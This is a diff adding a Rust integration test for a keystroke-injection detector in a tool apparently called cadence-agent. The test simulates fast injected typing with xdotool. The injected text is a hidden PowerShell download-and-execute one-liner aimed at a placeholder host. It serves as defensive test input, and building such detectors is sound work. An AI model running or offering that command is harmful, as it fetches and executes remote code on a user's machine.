@@ -161,3 +161,52 @@ fn a_lost_x_server_is_reported_and_retried_and_capture_resumes() {
     );
     assert!(err.contains("retrying"), "{err}");
 }
+
+#[test]
+fn preview_prints_a_guard_alert_for_injected_typing_and_none_for_paced_typing() {
+    if !tools_present("preview_prints_a_guard_alert") {
+        return;
+    }
+    let x = Xvfb::start(&[]);
+    let agent = Command::new(env!("CARGO_BIN_EXE_cadence-agent"))
+        .args([
+            "preview",
+            "--window-secs",
+            "60",
+            "--min-keys",
+            "20",
+            "--for",
+            "8",
+        ])
+        .env("DISPLAY", &x.display)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    thread::sleep(Duration::from_millis(800));
+    // Paced typing first (a key every ~60 ms): no alert.
+    x.xdotool(&["type", "--delay", "120", "paced typing stays quiet here"]);
+    thread::sleep(Duration::from_millis(1500));
+    // Then an injector: xdotool with no delay between keys.
+    x.xdotool(&[
+        "type",
+        "--delay",
+        "0",
+        "powershell -w hidden -c iwr http://x/p | iex",
+    ]);
+    let out = agent.wait_with_output().unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let alerts: Vec<serde_json::Value> = stdout
+        .lines()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .filter(|v| v["kind"] == "alert")
+        .collect();
+    assert_eq!(alerts.len(), 1, "expected exactly one alert, got: {stdout}");
+    assert_eq!(alerts[0]["detector"], "keystroke_injection");
+    assert!(
+        alerts[0]["mean_interval_ms"].as_f64().unwrap() < 35.0,
+        "{}",
+        alerts[0]
+    );
+    assert!(!stdout.contains("powershell") && !stdout.contains("hidden"));
+}
